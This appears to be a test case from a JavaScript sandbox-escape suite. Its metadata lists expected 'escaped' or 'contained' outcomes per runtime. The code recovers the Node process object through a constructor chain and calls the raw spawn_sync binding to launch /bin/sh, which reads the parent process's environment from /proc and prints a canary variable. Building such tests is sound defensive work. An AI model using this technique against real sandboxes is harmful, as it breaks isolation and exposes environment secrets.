/*---
id: cp-binding-spawn-sync
title: Spawn through process.binding('spawn_sync'), below node:child_process
category: child-process
goal: Start a process with the native spawn binding directly, skipping the JavaScript child_process module and whatever checks live there.
technique: process.binding('spawn_sync').spawn({ file: '/bin/sh', args, envPairs, stdio }) — the raw call child_process.spawnSync makes; the shell prints the env canary and sleeps 300 ms so the sampler sees it.
references: CVE-2023-32558, CVE-2023-32559, https://nodejs.org/api/deprecations.html#DEP0111, https://nodejs.org/api/permissions.html#child-process-permissions
expect: * = escaped; *+isolated-vm = contained; *+quickjs = contained
expect-hardened: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped
---*/
const P =
  typeof process !== 'undefined'
    ? process
    : (() => {
        try {
          return this.constructor.constructor('return process')();
        } catch {
          return undefined;
        }
      })();
let result = 'no process object';
if (P) {
  try {
    const r = P.binding('spawn_sync').spawn({
      file: '/bin/sh',
      args: [
        'sh',
        '-c',
        'echo "spawned pid $$, parent env: $(tr "\\0" "\\n" < /proc/$PPID/environ | grep ^WORKBENCH_CANARY=)"; sleep 0.3',
      ],
      envPairs: Object.entries(P.env).map(([k, v]) => `${k}=${v}`),
      stdio: [
        { type: 'pipe', readable: true, writable: false },
        { type: 'pipe', readable: false, writable: true },
        { type: 'inherit' },
      ],
      timeout: 900,
      maxBuffer: 65536,
      killSignal: 15,
      detached: false,
      windowsHide: true,
    });
    result = r.error ? `spawn error ${r.error}` : String(r.output && r.output[1]).trim();
  } catch (e) {
    result = `${e.code || e.name}: ${e.message}`.slice(0, 160);
  }
}
console.log('spawn_sync:', result);
result;
